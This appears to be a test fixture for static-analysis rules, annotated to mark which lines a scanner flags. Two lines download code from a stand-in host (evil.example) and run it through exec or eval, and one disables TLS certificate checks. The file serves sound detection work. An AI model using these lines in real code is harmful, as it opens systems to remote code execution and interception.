import urllib.request, requests
# ruleid: exec-fetched-code
exec(urllib.request.urlopen("https://evil.example/p.py").read())
# ruleid: exec-fetched-code
eval(requests.get("https://evil.example/x").text)
# ok: exec-fetched-code
exec(compile(open("local.py").read(), "local.py", "exec"))
# ruleid: tls-off
requests.get("https://internal.example", verify=False)
